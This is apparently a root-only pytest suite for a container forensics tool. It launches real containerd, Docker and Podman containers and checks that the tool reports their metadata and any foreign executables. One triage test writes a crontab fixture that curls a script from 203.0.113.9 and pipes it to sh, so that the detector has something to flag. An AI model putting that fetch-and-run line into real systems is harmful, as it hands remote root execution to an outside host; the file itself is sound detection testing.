"""The table beside the runtimes themselves: what Debian's containerd and Podman write for real containers."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import tarfile
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from extension.cli import main
from extension.command_line import CannotRunError
from extension.container_triage import ALL, chosen
from tables.host import Host
from tables.host.containers import reader
from tables.host.containers.containerd import Containerd
from tables.host.containers.docker import Docker
from tables.host.containers.storage import Storage
from tables.host.containers.stores import Store
from tables.processes.process_exe_mismatches import process_exe_mismatches
from tables.processes.process_tree import process_tree
from tables.schema import QueryContext
from tests.support.busybox import install_busybox

ID = "c0ffee" + "0" * 58
pytestmark = pytest.mark.root


def needs(*programs: str) -> pytest.MarkDecorator:
    missing = [program for program in ("busybox", *programs) if shutil.which(program) is None]
    return pytest.mark.skipif(bool(missing), reason=f"not installed: {', '.join(missing)}")


@pytest.fixture
def folder() -> Iterator[Path]:
    """A folder outside of /tmp's long names: sockets' paths are bounded. What a runtime leaves mounted in it is unmounted."""
    made = Path(tempfile.mkdtemp(prefix="test-", dir="/run"))
    yield made
    for _ in range(100):
        mounts = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
        for mount in reversed([mount for mount in mounts if mount.startswith(f"{made}/")]):
            subprocess.run(["umount", "--lazy", mount], check=True)
        # Podman's own clean-up mounts its store again for a moment, after the container has ended.
        with contextlib.suppress(OSError):
            shutil.rmtree(made)
            return
        time.sleep(0.1)
    raise AssertionError(f"{made} cannot be removed")


@pytest.fixture
def rootfs(folder: Path) -> Path:
    made = folder / "rootfs"
    install_busybox(made, "sleep")
    return made


class Daemon:
    """A containerd of the test's own, with what `ctr` is told to do."""

    def __init__(self, folder: Path) -> None:
        self.state = folder / "state"
        self.address = str(folder / "sock")
        command = ["containerd", "--root", str(folder / "root"), "--state", str(self.state), "--address", self.address]
        self.process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def ctr(self, *arguments: str, check: bool = True) -> str:
        command = ["ctr", "--address", self.address, *arguments]
        return subprocess.run(command, check=check, capture_output=True, text=True, timeout=60).stdout


@pytest.fixture
def containerd(folder: Path) -> Iterator[Daemon]:
    daemon = Daemon(folder)
    try:
        for _ in range(100):
            if subprocess.run(["ctr", "--address", daemon.address, "version"], capture_output=True).returncode == 0:
                break
            time.sleep(0.1)
        yield daemon
        daemon.ctr("tasks", "kill", "--signal", "SIGKILL", ID, check=False)
        time.sleep(0.5)
        daemon.ctr("containers", "rm", ID, check=False)
    finally:
        daemon.process.terminate()
        daemon.process.wait(20)


@needs("containerd", "ctr", "runc")
def test_a_container_of_containerd(containerd: Daemon, rootfs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    options = ("--label", "nerdctl/name=web", "--env", "A=b", "--privileged", "--net-host")
    mount = "type=bind,src=/etc,dst=/host/etc,options=rbind:ro"
    containerd.ctr("run", "-d", "--rootfs", *options, "--mount", mount, str(rootfs), ID, "/bin/sleep", "300")
    pid = int(next(line.split()[1] for line in containerd.ctr("tasks", "ls").splitlines() if line.startswith(ID)))
    host, query = Host(), QueryContext()
    (found,) = Containerd(Store(host, query), str(containerd.state)).all()
    assert (found.container_id, found.name, found.pid, found.state) == (ID, "web", pid, "running")
    assert (found.argv, "A=b" in found.environ, found.is_privileged) == (("/bin/sleep", "300"), True, True)
    assert "/etc:/host/etc:ro" in map(str, found.mounts) and "net" in found.host_namespaces
    assert found.root_folder == str(rootfs) and not query.said
    # A process in it is told to be of it.
    monkeypatch.setattr(reader, "STATE_FOLDERS", (str(containerd.state),))
    (row,) = (row for row in process_tree.generate(host, query) if row.pid == pid)
    assert (row.container_id, row.container_name) == (ID, "web")
    assert {container.container_id: container.state for container in reader.Containers(host, query).all()}[ID] == "running"


@needs("containerd", "ctr", "runc")
def test_a_triage_of_a_container(containerd: Daemon, rootfs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "STATE_FOLDERS", (str(containerd.state),))
    (rootfs / "etc").mkdir()
    (rootfs / "etc/crontab").write_text("* * * * * root curl -s http://203.0.113.9/x | sh\n")
    containerd.ctr("run", "-d", "--rootfs", "--label", "nerdctl/name=web", str(rootfs), ID, "/bin/sleep", "300")
    (container,) = chosen(Host(), "web")
    assert container in chosen(Host(), ID[:12]) and container in chosen(Host(), ALL)
    with pytest.raises(CannotRunError, match=r"no running container 'shop'; there are: .*web"):
        chosen(Host(), "shop")
    done = CliRunner().invoke(main, ["triage", "--container", "web", "--step", "2", "--step", "9", "--format", "json"])
    assert done.exit_code == 1, done.output
    (document,) = json.loads(done.output)
    assert document["container"].startswith(f"web {ID[:12]}")
    assert "203.0.113.9" in done.output
    assert CliRunner().invoke(main, ["triage", "--container", "web", "--format", "html"]).exit_code == 2


@pytest.fixture
def docker(folder: Path) -> Iterator[Callable[..., str]]:
    """Tells a dockerd of the test's own what to do; its state is below `folder`/data."""
    address = f"unix://{folder}/docker.sock"
    places = ["--data-root", f"{folder}/data", "--exec-root", f"{folder}/exec", "--pidfile", f"{folder}/pid"]
    networks = ["--bridge=none", "--iptables=false", "--ip6tables=false"]
    with (folder / "log").open("wb") as log:
        daemon = subprocess.Popen(["dockerd", *places, "-H", address, *networks], stdout=log, stderr=log)

    def tell(*arguments: str) -> str:
        command = ["docker", "-H", address, *arguments]
        return subprocess.run(command, check=True, capture_output=True, text=True, timeout=120).stdout.strip()

    try:
        for _ in range(100):
            if daemon.poll() is not None:
                pytest.skip(f"no dockerd runs here: {(folder / 'log').read_text()[-300:]}")
            if subprocess.run(["docker", "-H", address, "info"], capture_output=True).returncode == 0:
                break
            time.sleep(0.2)
        yield tell
    finally:
        subprocess.run(["docker", "-H", address, "rm", "-f", "shop"], capture_output=True)
        daemon.terminate()
        daemon.wait(30)


@needs("dockerd", "docker", "runc")
def test_a_container_of_docker_and_a_program_put_into_it(docker: Callable[..., str], folder: Path, rootfs: Path) -> None:
    archive = folder / "image.tar"
    with tarfile.open(archive, "w") as tar:
        tar.add(rootfs, ".")
    docker("import", str(archive), "prom/node-exporter:v1")
    options = ("--restart", "always", "--cap-add", "SYS_ADMIN", "-v", "/:/host:ro", "-v", "data:/data", "--pid", "host")
    limits = ("--ulimit", "nofile=1024", "--memory", "64m", "--network", "none", "-e", "A=b")
    made = docker("run", "-d", "--name", "shop", *options, *limits, "prom/node-exporter:v1", "/bin/sleep", "300")
    host, query = Host(), QueryContext()
    (found,) = Docker(Store(host, query), f"{folder}/data").all()
    assert (found.container_id, found.name, found.image, found.state) == (made, "shop", "prom/node-exporter:v1", "running")
    assert found.pid == int(docker("inspect", "-f", "{{.State.Pid}}", "shop"))
    assert (found.argv, found.restart_policy, found.capabilities_added) == (("/bin/sleep", "300"), "always", ("SYS_ADMIN",))
    assert [str(mount) for mount in found.mounts] == ["/:/host:ro"] and found.memory_limit == 64 << 20
    assert "pid" in found.host_namespaces and "A=b" in found.environ
    # An image that was never pulled is nobody's agent, whatever it is called.
    assert found.is_pulled is False and os.path.isdir(found.root_folder)
    docker("exec", "shop", "/bin/busybox", "mkdir", "/opt")
    docker("cp", str(rootfs / "bin/busybox"), "shop:/opt/sleep")
    docker("exec", "-d", "shop", "/opt/sleep", "299")
    found_rows: dict[str, str] = {}
    for _ in range(50):
        rows = process_exe_mismatches.generate(host, QueryContext())
        found_rows = {
            row.cmdline or "": row.evidence for row in rows if row.reason == "not_from_image" and row.container_id == made
        }
        if found_rows:
            break
        time.sleep(0.1)
    assert found_rows.keys() == {"/opt/sleep 299"} and f"{folder}/data/overlay2/" in found_rows["/opt/sleep 299"]


@needs("podman", "runc")
def test_a_container_of_podman(folder: Path, rootfs: Path) -> None:
    podman = ("podman", "--root", str(folder / "store"), "--runroot", str(folder / "run"), "--cgroup-manager=cgroupfs")
    archive = folder / "image.tar"
    with tarfile.open(archive, "w") as tar:
        tar.add(rootfs, ".")

    def run(*arguments: str) -> str:
        return subprocess.run([*podman, *arguments], check=True, capture_output=True, text=True, timeout=120).stdout

    run("import", str(archive), "localhost/shop:1")
    options = ("--restart", "always", "-e", "TOKEN=x", "-v", "/etc:/host/etc", "--cap-add", "SYS_ADMIN", "--network", "none")
    # Low enough to be set everywhere; crun refuses hosts with both kinds of cgroups.
    limits = ("--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1000:1000")
    run(
        "--runtime",
        shutil.which("runc") or "runc",
        "run",
        "-d",
        *limits,
        "--name",
        "shop",
        *options,
        "localhost/shop:1",
        "/bin/sleep",
        "300",
    )
    try:
        told = json.loads(run("ps", "-a", "--format", "json"))
        host, query = Host(), QueryContext()
        (found,) = Storage(Store(host, query), str(folder / "store"), str(folder / "run")).all()
        assert [(found.container_id, found.name, found.image)] == [(one["Id"], one["Names"][0], one["Image"]) for one in told]
        assert (found.runtime, found.state, found.pid) == ("podman", "running", told[0]["Pid"])
        assert (found.argv, found.capabilities_added) == (("/bin/sleep", "300"), ("SYS_ADMIN",))
        assert [str(mount) for mount in found.mounts] == ["/etc:/host/etc"] and "TOKEN=x" in found.environ
        has_record = any((folder / "store" / name).exists() for name in ("db.sql", "libpod/db.sql"))
        assert found.restart_policy == ("always" if has_record else "")
    finally:
        subprocess.run([*podman, "rm", "-f", "-t", "0", "shop"], check=True, capture_output=True)
